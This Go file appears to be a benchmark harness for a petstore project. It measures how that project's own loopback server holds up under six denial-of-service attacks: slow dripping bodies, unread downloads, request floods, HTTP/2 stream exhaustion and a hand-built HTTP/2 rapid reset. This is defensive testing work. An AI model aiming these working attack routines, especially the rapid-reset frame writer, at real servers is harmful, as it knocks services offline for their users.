// Command attacks measures what hostile clients do to cmd/petstore on its
// defaults: it starts the server built at -bin with a self-signed
// certificate on a free loopback port, and a victim, a client process with
// a key of its own that sends a list and a create every 20 ms over
// HTTP/1.1. For each attack it prints the victim's p99 with no attack and
// under the attack, its errors, whether the p99 under attack stays within
// twice the quiet one plus 5 ms, and the peak resident memory of the server
// (and of nginx) during the attack. Each attack, and each quiet phase
// before it, lasts -for.
//
// The attacks are the table in main, each named by what it does.
//
// With -nginx the server runs on plain HTTP under /store/v1 behind nginx
// with the configuration of docs/operating.md, and everything goes through
// nginx. The server (and nginx) run on CPU 0, the attackers and the victim
// on the others; the attackers connect from 127.0.0.2 and the victim from
// 127.0.0.3, as clients of different addresses.
//
// With -idle N or -h2 N it measures instead what the server holds for a
// connection: the growth of its resident memory with N idle HTTP/1.1
// connections (each after one answered request), or with N HTTP/2
// connections whose 100 streams are all open (creates whose bodies
// stopped), divided by N. Run one at a time: memory that one kind freed is
// reused by the other, not returned to the system.
//
// Usage:
//
//	go build -o /tmp/petstore ./cmd/petstore
//	go run ./bench/attacks -bin /tmp/petstore
//	go run ./bench/attacks -bin /tmp/petstore -nginx
//	go run ./bench/attacks -bin /tmp/petstore -nginx -only 'rapid reset'
//	go run ./bench/attacks -bin /tmp/petstore -idle 2000
//	go run ./bench/attacks -bin /tmp/petstore -h2 20
package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/binary"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/petstore-go/petstore/internal/testkit/nginx"
)

const (
	attackerKey = "attacker-key-0123456789"
	victimKey   = "victim-key-0123456789"
	dripBody    = `{"name":"drip","categoryId":1}`
)

// The addresses that the attackers and the victim connect from.
var (
	attackerAddr = &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}
	victimAddr   = &net.TCPAddr{IP: net.IPv4(127, 0, 0, 3)}
)

func main() {
	bin := flag.String("bin", "", "the cmd/petstore executable")
	dur := flag.Duration("for", 10*time.Second, "how long each attack, and each quiet phase, lasts")
	idle := flag.Int("idle", 0, "measure the memory of this many idle HTTP/1.1 connections instead")
	h2 := flag.Int("h2", 0, "measure the memory of this many HTTP/2 connections at their stream limit instead")
	proxy := flag.Bool("nginx", false, "put nginx with the configuration of docs/operating.md in front of the server")
	victim := flag.String("victim", "", "run as the victim against this base URL for -for, and print what it saw")
	only := flag.String("only", "", "run only the attacks whose names contain this")
	flag.Parse()
	if *victim != "" {
		runVictim(*victim, *dur)
		return
	}
	if *bin == "" {
		log.Fatal("-bin is required")
	}
	dir, err := os.MkdirTemp("", "attacks-")
	if err != nil {
		log.Fatal(err)
	}
	defer os.RemoveAll(dir)
	// A certificate for 127.0.0.1 and its key, made as bench/load.sh makes them.
	gen := exec.Command("sh", "-c", `go run "$(go env GOROOT)/src/crypto/tls/generate_cert.go" --host 127.0.0.1 --ecdsa-curve P256`)
	gen.Dir = dir
	if out, err := gen.CombinedOutput(); err != nil {
		log.Fatalf("generate_cert.go: %v: %s", err, out)
	}
	cert, key := filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
	var wrap []string
	if runtime.NumCPU() >= 2 {
		wrap = []string{"taskset", "-c", "0"}
		taskset(os.Getpid(), "1-"+strconv.Itoa(runtime.NumCPU()-1))
	}
	args := []string{*bin, "-addr", "127.0.0.1:0", "-store", "memory"}
	if *proxy {
		args = append(args, "-base-path", "/store/v1")
	} else {
		args = append(args, "-tls-cert", cert, "-tls-key", key)
	}
	if *idle > 0 || *h2 > 0 {
		args = append(args, "-read-limit", "off", "-create-limit", "off", "-max-in-flight", "0")
	}
	args = append(wrap, args...)
	cmd := exec.Command(args[0], args[1:]...)
	cmd.Env = append(os.Environ(), "PETSTORE_API_KEYS=mallory:"+attackerKey+",victor:"+victimKey)
	out, _ := cmd.StdoutPipe()
	cmd.Stderr = io.Discard
	if err := cmd.Start(); err != nil {
		log.Fatal(err)
	}
	defer cmd.Process.Kill()
	var base string
	for sc := bufio.NewScanner(out); sc.Scan(); {
		if u, ok := strings.CutPrefix(sc.Text(), "serving "); ok {
			base = strings.TrimSuffix(u, "/pets")
			break
		}
	}
	go io.Copy(io.Discard, out)
	_, addr, _ := strings.Cut(base, "://")
	addr, path, _ := strings.Cut(addr, "/")
	s := &server{pids: []int{cmd.Process.Pid}, addr: addr, base: base, path: "/" + path}
	if *proxy {
		bin, err := nginx.Binary()
		if err != nil {
			log.Fatal(err)
		}
		doc, err := os.ReadFile("docs/operating.md")
		if err != nil {
			log.Fatalf("%v (run from the repository's root)", err)
		}
		p, err := nginx.Start(bin, dir, doc, addr, cert, key)
		if err != nil {
			log.Fatal(err)
		}
		defer p.Stop()
		if wrap != nil {
			for _, pid := range append([]int{p.Pid()}, children(p.Pid())...) {
				taskset(pid, "0")
			}
		}
		s.addr, s.base = p.Addr, "https://"+p.Addr+s.path
		s.pids = append(s.pids, p.Pid())
	}
	if *idle > 0 || *h2 > 0 {
		connMemory(s, *idle, *h2)
		return
	}

	attacks := []struct {
		name string
		run  func(context.Context, *server)
	}{
		{"docs bundle never read, no key, 100 connections", func(ctx context.Context, s *server) {
			head := "GET " + s.path + "/docs/swagger-ui-bundle.js HTTP/1.1\r\nHost: x\r\nAccept-Encoding: identity\r\n\r\n"
			connAttack(ctx, s, 100, head, "", false)
		}},
		{"bodies dripping a byte a second, one key, 400 connections", func(ctx context.Context, s *server) {
			head := fmt.Sprintf("POST %s/pets HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n",
				s.path, attackerKey, len(dripBody))
			connAttack(ctx, s, 400, head, dripBody, true)
		}},
		{"one key as fast as it can, 300 connections", func(ctx context.Context, s *server) { floodAttack(ctx, s, 300, attackerKey) }},
		{"HTTP/2, 32 connections x 32 streams dripping bodies, one key", func(ctx context.Context, s *server) { h2Attack(ctx, s, 32, 32) }},
		{"no key as fast as it can, 64 connections", func(ctx context.Context, s *server) { floodAttack(ctx, s, 64, "") }},
		{"HTTP/2 rapid reset, no key, 8 connections", func(ctx context.Context, s *server) { rapidReset(ctx, s, 8) }},
	}
	for _, a := range attacks {
		if !strings.Contains(a.name, *only) {
			continue
		}
		quiet := measure(s, *dur, nil)
		loud := measure(s, *dur, a.run)
		line := 2*quiet.P99 + 5*time.Millisecond
		verdict := "within"
		if loud.P99 > line || loud.Errs > 0 {
			verdict = "NOT within"
		}
		fmt.Printf("%s:\n  victim p99 %v quiet (%d requests, %d errors), %v under attack (%d requests, %d errors: %s), %s 2x quiet + 5 ms (%v); peak RSS %s\n",
			a.name, quiet.P99.Round(100*time.Microsecond), quiet.N, quiet.Errs, loud.P99.Round(100*time.Microsecond), loud.N, loud.Errs, loud.First,
			verdict, line.Round(100*time.Microsecond), loud.peak)
		time.Sleep(2 * time.Second) // for the attack's connections to go
	}
}

// taskset puts every thread of the process pid on cpus.
func taskset(pid int, cpus string) {
	if out, err := exec.Command("taskset", "-a", "-p", "-c", cpus, strconv.Itoa(pid)).CombinedOutput(); err != nil {
		log.Fatalf("taskset: %v: %s", err, out)
	}
}

// children returns the processes whose parent is pid.
func children(pid int) []int {
	var kids []int
	tasks, _ := filepath.Glob("/proc/" + strconv.Itoa(pid) + "/task/*/children")
	for _, f := range tasks {
		b, _ := os.ReadFile(f)
		for _, w := range strings.Fields(string(b)) {
			if n, err := strconv.Atoi(w); err == nil {
				kids = append(kids, n)
			}
		}
	}
	return kids
}

// connMemory prints the growth of the server's memory with idle HTTP/1.1
// connections, or with HTTP/2 connections at their stream limit.
func connMemory(s *server, idle, h2 int) {
	settle := func() int {
		time.Sleep(2 * time.Second)
		return rss(s.pids[0])
	}
	before := settle()
	ctx := context.Background()
	for range idle {
		c, err := dialTLS(ctx, s, "http/1.1", false)
		if err != nil {
			log.Fatal(err)
		}
		fmt.Fprintf(c, "GET %s/pets?limit=1 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n\r\n", s.path, victimKey)
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			log.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		defer c.Close()
	}
	for range h2 {
		tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, ForceAttemptHTTP2: true, MaxConnsPerHost: 1,
			HTTP2: &http.HTTP2Config{StrictMaxConcurrentRequests: true}}
		for range 100 {
			req, _ := http.NewRequest("POST", s.base+"/pets", &drippingBody{rest: "{" + strings.Repeat(" ", 1000)})
			req.Header.Set("Authorization", "Bearer "+victimKey)
			req.Header.Set("Content-Type", "application/json")
			go (&http.Client{Transport: tr}).Do(req)
		}
	}
	after := settle()
	n, kind := idle, "idle HTTP/1.1 connections over TLS"
	if h2 > 0 {
		n, kind = h2, "HTTP/2 connections with 100 streams open"
	}
	fmt.Printf("%d %s: RSS %d -> %d KiB, %.1f KiB a connection\n", n, kind, before, after, float64(after-before)/float64(n))
}

// server is the server under attack, or nginx in front of it.
type server struct {
	pids             []int // the server's process, and nginx's master
	addr, base, path string
}

// phase is what measure saw: what the victim saw, which it prints as
// JSON, and the peak memory.
type phase struct {
	P99     time.Duration
	N, Errs int    // requests, and those that failed
	First   string // the first error
	peak    string
}

// measure runs the victim for d, with attack (nil for none) going on, and
// samples the resident memory of the server and of nginx.
func measure(s *server, d time.Duration, attack func(context.Context, *server)) phase {
	ctx, cancel := context.WithTimeout(context.Background(), d)
	defer cancel()
	var wg sync.WaitGroup
	if attack != nil {
		wg.Go(func() { attack(ctx, s) })
	}
	peaks := make([]int, len(s.pids)) // written by the sampler alone, read after it ends
	wg.Go(func() {
		for ctx.Err() == nil {
			for i, pid := range s.pids {
				kb := rss(pid)
				for _, kid := range children(pid) {
					kb += rss(kid)
				}
				peaks[i] = max(peaks[i], kb)
			}
			time.Sleep(100 * time.Millisecond)
		}
	})
	// The victim stands for a client on a machine of its own: on the CPU it
	// shares with the attackers it runs in real time (as root), before them
	// and the kernel's work on their packets, which a nice level does not
	// reach. Under nice -10 the attackers' TLS handshakes and frames still
	// cost it up to 13 ms at p99, which the server had no part in.
	victim := []string{os.Args[0], "-victim", s.base, "-for", d.String()}
	if os.Geteuid() == 0 {
		victim = append([]string{"chrt", "-f", "10"}, victim...)
	}
	out, err := exec.Command(victim[0], victim[1:]...).Output()
	cancel()
	wg.Wait()
	if err != nil {
		log.Fatalf("victim: %v", err)
	}
	var p phase
	if err := json.Unmarshal(out, &p); err != nil {
		log.Fatalf("victim: %v: %s", err, out)
	}
	p.peak = fmt.Sprintf("server %d MB", peaks[0]/1024)
	if len(peaks) > 1 {
		p.peak += fmt.Sprintf(", nginx %d MB", peaks[1]/1024)
	}
	return p
}

// runVictim sends a list and a create in turn every 20 ms for d, from
// victimAddr, and prints the phase it saw.
func runVictim(base string, d time.Duration) {
	tr := &http.Transport{
		DialContext:     (&net.Dialer{LocalAddr: victimAddr}).DialContext,
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
		TLSNextProto:    map[string]func(string, *tls.Conn) http.RoundTripper{},
	}
	client := &http.Client{Transport: tr, Timeout: 30 * time.Second}
	var took []time.Duration
	errs, first := 0, "none"
	tick := time.NewTicker(20 * time.Millisecond)
	for end, i := time.Now().Add(d), 0; time.Now().Before(end); i++ {
		<-tick.C
		var req *http.Request
		if i%2 == 0 {
			req, _ = http.NewRequest("GET", base+"/pets?limit=10", nil)
		} else {
			req, _ = http.NewRequest("POST", base+"/pets", strings.NewReader(`{"name":"victim","categoryId":1}`))
			req.Header.Set("Content-Type", "application/json")
		}
		req.Header.Set("Authorization", "Bearer "+victimKey)
		start := time.Now()
		resp, err := client.Do(req)
		if err == nil {
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if resp.StatusCode >= 300 {
				err = fmt.Errorf("%s %s: %s", req.Method, req.URL.Path, resp.Status)
			}
		}
		took = append(took, time.Since(start))
		if err != nil {
			if errs++; errs == 1 {
				first = err.Error()
			}
		}
	}
	slices.Sort(took)
	json.NewEncoder(os.Stdout).Encode(phase{P99: took[len(took)*99/100], N: len(took), Errs: errs, First: first})
}

// dialTLS dials the server over TLS offering only proto, with a small
// receive buffer when small is set, as a client that does not read would
// arrange.
func dialTLS(ctx context.Context, s *server, proto string, small bool) (net.Conn, error) {
	d := &net.Dialer{LocalAddr: attackerAddr}
	if small {
		d.Control = func(_, _ string, c syscall.RawConn) error {
			return c.Control(func(fd uintptr) { syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 4096) })
		}
	}
	c, err := d.DialContext(ctx, "tcp", s.addr)
	if err != nil {
		return nil, err
	}
	tc := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{proto}})
	if err := tc.HandshakeContext(ctx); err != nil {
		c.Close()
		return nil, err
	}
	return tc, nil
}

// connAttack keeps n connections sending head, then body a byte a second,
// until ctx is done; read says whether they read the answers. The i-th
// connection starts i/n of a second in, so that the attack starts spread
// over a second rather than in one burst. A connection that the server
// closes is opened again, no sooner than a second after the last.
func connAttack(ctx context.Context, s *server, n int, head, body string, read bool) {
	var wg sync.WaitGroup
	for i := range n {
		wg.Go(func() {
			sleep(ctx, time.Duration(i)*time.Second/time.Duration(n))
			for ctx.Err() == nil {
				opened := time.Now()
				conn, err := dialTLS(ctx, s, "http/1.1", !read)
				if err != nil {
					return
				}
				if _, err := io.WriteString(conn, head); err == nil && body != "" {
					go io.Copy(conn, &drippingBody{rest: body}) // ends at the first write after conn closes
				}
				stop := context.AfterFunc(ctx, func() { conn.Close() })
				if read {
					io.Copy(io.Discard, conn)
				} else {
					<-ctx.Done()
				}
				stop()
				conn.Close()
				sleep(ctx, time.Until(opened.Add(time.Second)))
			}
		})
	}
	wg.Wait()
}

// sleep waits for d, or until ctx is done.
func sleep(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// floodAttack sends requests with key (none when empty) on n connections
// until ctx is done, one in flight on each, the next as soon as the last is
// answered: lists and creates in turn.
func floodAttack(ctx context.Context, s *server, n int, key string) {
	const body = `{"name":"flood","categoryId":1}`
	auth := ""
	if key != "" {
		auth = "Authorization: Bearer " + key + "\r\n"
	}
	reqs := [2]string{
		fmt.Sprintf("GET %s/pets?limit=100 HTTP/1.1\r\nHost: x\r\n%s\r\n", s.path, auth),
		fmt.Sprintf("POST %s/pets HTTP/1.1\r\nHost: x\r\n%sContent-Type: application/json\r\n"+
			"Content-Length: %d\r\n\r\n%s", s.path, auth, len(body), body),
	}
	var wg sync.WaitGroup
	for range n {
		wg.Go(func() {
			var (
				conn net.Conn
				br   *bufio.Reader
			)
			for i := 0; ctx.Err() == nil; i++ {
				if conn == nil {
					var err error
					if conn, err = dialTLS(ctx, s, "http/1.1", false); err != nil {
						return
					}
					br = bufio.NewReader(conn)
				}
				conn.SetDeadline(time.Now().Add(10 * time.Second))
				_, err := io.WriteString(conn, reqs[i%2])
				var resp *http.Response
				if err == nil {
					resp, err = http.ReadResponse(br, nil)
				}
				if err == nil {
					_, err = io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
				}
				if err != nil || resp.Close {
					conn.Close()
					conn = nil
				}
			}
			if conn != nil {
				conn.Close()
			}
		})
	}
	wg.Wait()
}

// h2Attack opens conns HTTP/2 connections and keeps streams POST streams
// going on each until ctx is done, each declaring dripBody and sending it
// a byte a second.
func h2Attack(ctx context.Context, s *server, conns, streams int) {
	var wg sync.WaitGroup
	for range conns {
		tr := &http.Transport{
			DialContext:       (&net.Dialer{LocalAddr: attackerAddr}).DialContext,
			TLSClientConfig:   &tls.Config{InsecureSkipVerify: true},
			ForceAttemptHTTP2: true,
			MaxConnsPerHost:   1,
			HTTP2:             &http.HTTP2Config{StrictMaxConcurrentRequests: true},
		}
		client := &http.Client{Transport: tr}
		defer tr.CloseIdleConnections()
		for range streams {
			wg.Go(func() {
				for ctx.Err() == nil {
					opened := time.Now()
					req, _ := http.NewRequestWithContext(ctx, http.MethodPost, s.base+"/pets", &drippingBody{rest: dripBody})
					req.ContentLength = int64(len(dripBody))
					req.Header.Set("Content-Type", "application/json")
					req.Header.Set("Authorization", "Bearer "+attackerKey)
					if resp, err := client.Do(req); err == nil {
						io.Copy(io.Discard, resp.Body)
						resp.Body.Close()
					}
					sleep(ctx, time.Until(opened.Add(time.Second)))
				}
			})
		}
	}
	wg.Wait()
}

// drippingBody is a request body that gives rest a byte a second.
type drippingBody struct{ rest string }

func (b *drippingBody) Read(p []byte) (int, error) {
	if b.rest == "" {
		return 0, io.EOF
	}
	time.Sleep(time.Second)
	p[0], b.rest = b.rest[0], b.rest[1:]
	return 1, nil
}

// rapidReset keeps n HTTP/2 connections sending, without a key, a HEADERS
// frame for a GET of the pets and at once a RST_STREAM for it, as fast as
// they can, redialling when the server closes one.
func rapidReset(ctx context.Context, s *server, n int) {
	var wg sync.WaitGroup
	for range n {
		wg.Go(func() {
			for ctx.Err() == nil {
				conn, err := dialTLS(ctx, s, "h2", false)
				if err != nil {
					return
				}
				stop := context.AfterFunc(ctx, func() { conn.Close() })
				resetOn(conn, s)
				stop()
				conn.Close()
			}
		})
	}
	wg.Wait()
}

// resetOn sends HEADERS and RST_STREAM on conn until a write fails; it
// acknowledges the server's SETTINGS and reads the rest away.
func resetOn(conn net.Conn, s *server) {
	var mu sync.Mutex
	write := func(b []byte) error {
		mu.Lock()
		defer mu.Unlock()
		_, err := conn.Write(b)
		return err
	}
	frame := func(typ, flags byte, stream uint32, payload []byte) []byte {
		b := make([]byte, 9, 9+len(payload))
		b[0], b[1], b[2] = byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload))
		b[3], b[4] = typ, flags
		binary.BigEndian.PutUint32(b[5:], stream)
		return append(b, payload...)
	}
	if write(append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, nil)...)) != nil {
		return
	}
	go func() { // acknowledge SETTINGS, read the rest away
		hdr := make([]byte, 9)
		for {
			if _, err := io.ReadFull(conn, hdr); err != nil {
				return
			}
			length := int(hdr[0])<<16 | int(hdr[1])<<8 | int(hdr[2])
			if _, err := io.CopyN(io.Discard, conn, int64(length)); err != nil {
				return
			}
			if hdr[3] == 4 && hdr[4]&1 == 0 {
				write(frame(4, 1, 0, nil))
			}
		}
	}()
	// GET, https, :path and :authority as literals without indexing.
	block := []byte{0x82, 0x87, 0x04, byte(len(s.path) + 5)}
	block = append(block, s.path+"/pets"...)
	block = append(block, 0x01, byte(len(s.addr)))
	block = append(block, s.addr...)
	for id := uint32(1); id < 1<<31; id += 2 {
		b := frame(1, 0x5, id, block)
		b = append(b, frame(3, 0, id, []byte{0, 0, 0, 8})...)
		if write(b) != nil {
			return
		}
	}
}

// rss returns the resident memory of the process pid, in KiB.
func rss(pid int) int {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/status")
	if err != nil {
		return 0
	}
	for line := range strings.Lines(string(b)) {
		if v, ok := strings.CutPrefix(line, "VmRSS:"); ok {
			n, _ := strconv.Atoi(strings.Fields(v)[0])
			return n
		}
	}
	return 0
}
